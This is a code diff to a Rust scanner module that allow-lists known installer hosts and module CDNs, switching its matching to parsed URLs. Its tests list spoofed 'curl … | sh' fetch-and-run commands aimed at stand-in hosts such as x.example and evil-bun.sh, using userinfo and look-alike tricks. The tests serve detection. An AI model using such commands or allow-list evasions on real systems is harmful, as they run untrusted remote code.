@@ -1,7 +1,8 @@
 //! Downloads with a known, honest use: installers of well-known publishers, modules from registries, examples in documents.
 
-use plugward_types::FileRole;
+use plugward_types::{Address, FileRole};
 
+use crate::known::hosts;
 use crate::scan::sink::{Hit, Lowered};
 
 /// Installers that their publishers document as a command to be piped into a shell, by host and path.
@@ -90,11 +91,11 @@ const INSTALLERS: &[&str] = &[
     "raw.githubusercontent.com/golangci/golangci-lint",
     "raw.githubusercontent.com/terraform-linters/tflint",
     "raw.githubusercontent.com/ohmyzsh/ohmyzsh",
-    "raw.githubusercontent.com/junegunn/",
+    "raw.githubusercontent.com/junegunn",
     "raw.githubusercontent.com/rhysd/actionlint",
     "raw.githubusercontent.com/nektos/act",
-    "raw.githubusercontent.com/sqlc-dev/",
-    "raw.githubusercontent.com/jesseduffield/",
+    "raw.githubusercontent.com/sqlc-dev",
+    "raw.githubusercontent.com/jesseduffield",
     "linkerd.io",
     "istio.io/downloadistio",
     "get.opentofu.org",
@@ -132,30 +133,30 @@ const INSTALLERS: &[&str] = &[
 
 /// Registries of modules that code may import by URL.
 const MODULES: &[&str] = &[
-    "://esm.sh/",
-    "://deno.land/",
-    "://jsr.io/",
-    "://cdn.jsdelivr.net/",
-    "://unpkg.com/",
-    "://esm.run/",
-    "://cdn.skypack.dev/",
-    "://cdnjs.cloudflare.com/",
-    "://jslib.k6.io/",
-    "://www.gstatic.com/",
-    "://cdn.tailwindcss.com",
-    "://ga.jspm.io/",
-    "://code.jquery.com/",
-    "://ajax.googleapis.com/",
-    "://d3js.org/",
-    "://cdn.plot.ly/",
-    "://maxcdn.bootstrapcdn.com/",
-    "://stackpath.bootstrapcdn.com/",
-    "://unpkg.zhimg.com/",
-    "://fonts.googleapis.com/",
-    "://www.googletagmanager.com/",
-    "://js.stripe.com/",
-    "://cdn.auth0.com/",
-    "://static.cloudflareinsights.com/",
+    "esm.sh",
+    "deno.land",
+    "jsr.io",
+    "cdn.jsdelivr.net",
+    "unpkg.com",
+    "esm.run",
+    "cdn.skypack.dev",
+    "cdnjs.cloudflare.com",
+    "jslib.k6.io",
+    "www.gstatic.com",
+    "cdn.tailwindcss.com",
+    "ga.jspm.io",
+    "code.jquery.com",
+    "ajax.googleapis.com",
+    "d3js.org",
+    "cdn.plot.ly",
+    "maxcdn.bootstrapcdn.com",
+    "stackpath.bootstrapcdn.com",
+    "unpkg.zhimg.com",
+    "fonts.googleapis.com",
+    "www.googletagmanager.com",
+    "js.stripe.com",
+    "cdn.auth0.com",
+    "static.cloudflareinsights.com",
 ];
 
 /// How far before a command the rest of its pipeline is searched for.
@@ -201,16 +202,11 @@ fn line(hit: Hit, bytes: &[u8]) -> &[u8] {
     bytes.get(start.saturating_sub(before.len()) + from..end + rest).unwrap_or_default()
 }
 
-/// Returns `true` if a text contains one of the addresses, ignoring ASCII case.
+/// Returns `true` if a text contains a URL of one of the hosts.
 fn holds(text: &[u8], list: &[&str]) -> bool {
-    let lower = text.to_ascii_lowercase();
-    list.iter().any(|known| {
-        memchr::memmem::find_iter(&lower, known.as_bytes()).any(|at| {
-            // The match must not be inside another name: `evil-bun.sh` is not `bun.sh`.
-            let before = at.checked_sub(1).and_then(|at| lower.get(at));
-            known.starts_with(':') || before.is_some_and(|byte| matches!(byte, b'/' | b'.' | b'@'))
-        })
-    })
+    hosts::addresses(text)
+        .filter(Address::is_well_formed)
+        .any(|address| list.iter().any(|known| hosts::is_at(&address, known)))
 }
 
 #[cfg(test)]
@@ -226,5 +222,9 @@ mod tests {
         ));
         assert!(!holds(b"curl https://evil-bun.sh/i | sh", INSTALLERS));
         assert!(!holds(b"curl https://x.example/i | sh", INSTALLERS));
+        assert!(!holds(b"curl https://bun.sh@x.example/i | sh", INSTALLERS));
+        assert!(!holds(b"curl https://bun.sh,@x.example/i | sh", INSTALLERS));
+        assert!(!holds(b"curl https://x.example/bun.sh | sh", INSTALLERS));
+        assert!(!holds(b"curl https://raw.githubusercontent.com/nektos/act-2/i | sh", INSTALLERS));
     }
 }
